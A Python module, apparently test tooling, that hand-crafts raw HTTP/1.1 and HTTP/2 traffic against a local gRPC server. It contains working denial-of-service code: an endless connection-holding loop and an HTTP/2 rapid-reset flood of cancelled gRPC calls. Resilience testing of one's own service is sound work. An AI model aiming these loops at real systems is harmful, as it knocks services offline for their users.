"""Attacks that no client library can be made to do: bytes of HTTP/1.1 and HTTP/2, sent by hand."""

from __future__ import annotations

import select
import socket
import struct
import time

ASK = b"GET /healthz HTTP/1.1\r\nHost:localhost\r\n\r\n"
LIST = b"/j10ce.v1alpha1.QoSProfileService/List"
SETTINGS, HEADERS, RESET, PING = 4, 1, 3, 6
ACK, END_HEADERS = 1, 4
AT_ONCE = 50


def endless(port: int, sent: bytes, connections: int = 30) -> None:
    """Sends it on every connection, reads nothing, and opens those again that are closed. For ever."""
    kept: list[socket.socket] = []
    while True:
        kept = [one for one in kept if not is_closed(one)]
        kept += [begun(port, sent) for _ in range(connections - len(kept))]
        time.sleep(0.05)


def begun(port: int, sent: bytes) -> socket.socket:
    made = socket.create_connection(("127.0.0.1", port))
    made.setblocking(False)
    try:
        made.send(sent)
    except OSError:
        pass  # it is noticed by whoever looks whether it is closed
    return made


def is_closed(one: socket.socket) -> bool:
    """Whether the other end has closed it; what it said is read and forgotten."""
    try:
        return select.select([one], [], [], 0)[0] != [] and not one.recv(65536)
    except BlockingIOError:
        return False
    except OSError:
        return True


def resets(port: int) -> None:
    """Calls that are begun and given up, as fast as the connection carries them. For ever."""
    block = b"\x83\x86" + b"".join(
        b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
        for name, value in ((b":path", LIST), (b":authority", b"localhost"), (b"content-type", b"application/grpc"))
    )
    with socket.create_connection(("127.0.0.1", port)) as one:
        one.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b""))
        call = 1
        while True:
            answer(one)
            calls = range(call, call + 2 * AT_ONCE, 2)
            given_up = struct.pack(">I", 8)
            one.sendall(b"".join(frame(HEADERS, END_HEADERS, n, block) + frame(RESET, 0, n, given_up) for n in calls))
            call += 2 * AT_ONCE


def answer(one: socket.socket) -> None:
    """What has to be answered for the connection to go on."""
    received = b""
    while select.select([one], [], [], 0)[0] and (more := one.recv(65536)):
        received += more
    while len(received) >= 9:
        length = int.from_bytes(received[:3], "big")
        kind, flags, content = received[3], received[4], received[9 : 9 + length]
        if kind in (SETTINGS, PING) and not flags & ACK:
            one.sendall(frame(kind, ACK, 0, content if kind == PING else b""))
        received = received[9 + length :]


def frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
    return struct.pack(">I", len(content))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + content
